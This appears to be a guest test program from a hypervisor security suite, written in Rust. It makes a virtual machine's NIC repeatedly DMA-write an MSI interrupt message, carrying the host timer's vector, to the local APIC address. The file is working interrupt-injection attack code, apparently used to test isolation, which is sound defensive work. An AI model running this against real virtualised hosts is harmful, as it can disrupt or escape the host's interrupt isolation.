//! Has its NIC write an interrupt message in compatibility format: a DWORD with the host timer's vector, to the
//! address of the local APIC. SDM 3A 10.11.

#![no_std]
#![no_main]

use attacks::nic::{Nic, Ring};
use attacks::{Machine, spin};
use kit::frames::{LARGE_PAGE, PAGE};

attacks::guest!(run);

/// The message: fixed delivery, edge, vector 0xF0. The head after so many descriptors is that number.
const MESSAGE: u64 = 0xF0;
const SIZE: u64 = 256;

fn run(mut machine: Machine) -> ! {
    let nic = Nic::start();
    let place = machine.frames.take(Ring::bytes(SIZE).next_multiple_of(PAGE), LARGE_PAGE).expect("no memory");
    let ring = Ring::write(place, place, SIZE, MESSAGE);
    let address = 0xFEE0_0000 | (kit::x2apic::id() as u64 & 0xFF) << 12;
    machine.alive();
    machine.enable_interrupts();
    loop {
        nic.write_dword(&ring, address);
        spin(50_000);
    }
}
